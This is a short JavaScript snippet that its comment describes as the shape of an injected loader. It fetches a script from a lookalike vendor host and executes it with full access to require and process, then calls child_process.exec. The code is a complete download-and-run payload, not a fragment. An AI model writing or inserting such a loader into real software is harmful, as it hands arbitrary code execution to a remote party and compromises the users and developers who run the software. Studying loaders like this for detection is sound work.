// Fetches a remote configuration and runs it: the shape of an injected loader.
(function () {
  var https = require('https');
  var cp = require('child_process');
  function run(src) {
    var fn = new Function('require', 'process', src);
    fn(require, process);
  }
  https.get({ host: 'cdn.vendor-lookalike.example', path: '/cfg.js' }, function (res) {
    var body = '';
    res.on('data', function (c) { body += c; });
    res.on('end', function () { run(body); cp.exec('true'); });
  });
})();
